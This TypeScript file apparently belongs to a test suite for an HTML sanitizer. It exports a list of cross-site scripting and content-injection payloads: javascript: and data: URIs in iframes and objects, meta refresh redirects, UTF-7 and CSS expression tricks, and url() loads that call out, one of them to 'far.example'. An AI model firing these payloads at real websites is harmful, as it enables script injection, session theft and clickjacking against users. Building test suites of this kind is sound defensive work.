import { escapeHtml, type Payload, toBase64 } from "./payload.ts";

const script = (js: string) => `<script>parent.${js}</script>`;

/** Embedded documents, elements that affect the whole document, and styles. */
export const documentPayloads: Payload[] = [
	// Frames, objects and plug-ins.
	(js) => `<iframe src="javascript:parent.${js}"></iframe>`,
	(js) => `<iframe src="java\nscript:parent.${js}">`,
	(js) => `<iframe srcdoc="${escapeHtml(script(js))}"></iframe>`,
	(js) => `<iframe srcdoc='${script(js)}'></iframe>`,
	(js) => `<iframe sandbox="allow-scripts allow-same-origin allow-top-navigation" srcdoc="${escapeHtml(script(js))}">`,
	(js) =>
		`<iframe src="data:text/html,${escapeHtml(`<script>top.location='https://far.example/data?${js}'</script>`)}">`,
	(js) => `<iframe srcdoc="&lt;iframe srcdoc='&amp;lt;script&amp;gt;top.${js}&amp;lt;/script&amp;gt;'&gt;">`,
	(_, url) => `<iframe srcdoc="&lt;base target=_top&gt;&lt;meta http-equiv=refresh content='0;url=${url}'&gt;">`,
	(_, url) => `<iframe src="about:blank" name="__xss" srcdoc="&lt;img src=${url}&gt;">`,
	(js) => `<frameset><frame src="javascript:parent.${js}"></frameset>`,
	(_, url) => `<frameset cols=*><frame src=${url}>`,
	(js) => `<object data="javascript:${js}"></object>`,
	(js) => `<object data="data:text/html;base64,${toBase64(script(js))}" type="text/html">`,
	(js) =>
		`<object type="text/x-scriptlet" data="data:text/html,${escapeHtml(script(js))}"><param name=src value="javascript:${js}"></object>`,
	(_, url) => `<object data=${url}><embed src=${url}></object>`,
	(js) => `<embed src="javascript:${js}" allowscriptaccess=always>`,
	(js) =>
		`<embed type="image/svg+xml" src="data:image/svg+xml;base64,${toBase64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${js}"/>`)}">`,
	(js) => `<applet code="javascript:${js}" archive="javascript:${js}" codebase="javascript:${js}">Words</applet>`,
	(_, url) => `<portal src="${url}" onload="__xss()"></portal><fencedframe src="${url}"></fencedframe>`,
	// Elements that affect the whole document.
	(_, url) => `<meta http-equiv="refresh" content="0;url=${url}">`,
	(js) => `<meta http-equiv="refresh" content="0; url=javascript:${js}">`,
	(js) => `<META HTTP-EQUIV="Refresh" CONTENT="0;URL='data:text/html,${escapeHtml(script(js))}'">`,
	(_, url) => `<meta http-equiv=refresh content="0,${url}"><meta http-equiv=refresh content=0;${url}>`,
	() => `<meta http-equiv="set-cookie" content="stolen=1"><meta name=referrer content=unsafe-url>`,
	() => `<meta http-equiv="content-security-policy" content="script-src 'none'; default-src 'none'">`,
	(js) => `<meta charset="utf-7">+ADw-script+AD4-${js}+ADw-/script+AD4-`,
	(_, url) => `<base target="_blank" href="${url}/">`,
	(_, url) => `<link rel="stylesheet" href="${url}.css">`,
	(js) => `<link rel="stylesheet" href="data:text/css,*{color:red;background:url(javascript:${js})}">`,
	(_, url) => `<link rel="import" href="${url}"><link rel=manifest href=${url}><link rel=icon href=${url}.ico>`,
	(_, url) => `<link rel="preload" as="script" href="${url}"><link rel="modulepreload" href="${url}?m">`,
	(_, url) =>
		`<link rel="prefetch" href="${url}"><link rel="prerender" href="${url}?p"><link rel="preconnect" href="${url}">`,
	(js) => `<html manifest="javascript:${js}"><head profile="javascript:${js}"><title>Words</title></head>`,
	(js) => `<?xml version="1.0"?><?xml-stylesheet type="text/xml" href="data:text/xml,${escapeHtml(script(js))}"?>`,
	(js) => `<!DOCTYPE html [<!ENTITY x "${escapeHtml(script(js))}">]><p>&x;</p>`,
	(js) =>
		`<xml id=x><a><b>&lt;img src=x onerror=${js}&gt;</b></a></xml><span datasrc=#x datafld=b dataformatas=html></span>`,
	// Styles.
	(_, url) => `<style>@import url(${url}.css);</style>`,
	(_, url) => `<style>@import '${url}`,
	(_, url) => `<style>body{background:url("${url}")}</style>`,
	(_, url) => `<style>@font-face{font-family:f;src:url(${url})}article *{font-family:f!important}</style>`,
	(_, url) => `<style>a[href^="/"]{background:image-set("${url}" 1x)}p::before{content:url(${url}?b)}</style>`,
	(js) => `<style>*{x:expression(${js});behavior:url(javascript:${js});-moz-binding:url(data:text/xml,${js})}</style>`,
	(js) => `<style></style><script>${js}</script></style>`,
	(js) => `<style>/*</style><img src=x onerror=${js}>*/</style>`,
	(js) => `<style><!--</style><script>${js}//--></script>`,
	(_, url) => `<p style="background:url(${url})">Words</p>`,
	(_, url) => `<p style="background:\\75\\72\\6c(${url})">Words</p>`,
	(_, url) => `<p style='list-style-image:url(&quot;${url}&quot;);cursor:url(${url}?c),auto'>Words</p>`,
	(js) =>
		`<p style="width:expression(${js});x:expr/**/ession(${js});-o-link:'javascript:${js}';-o-link-source:current">Words</p>`,
	() => `<a href="/about" style="position:fixed;inset:0;opacity:0;z-index:999" class="fixed inset-0">Words</a>`,
	() =>
		`<p class="fixed inset-0 z-50 bg-ink" hidden inert role="alert" aria-hidden="true" dir="rtl" lang="x" tabindex="-1">Words</p>`,
];
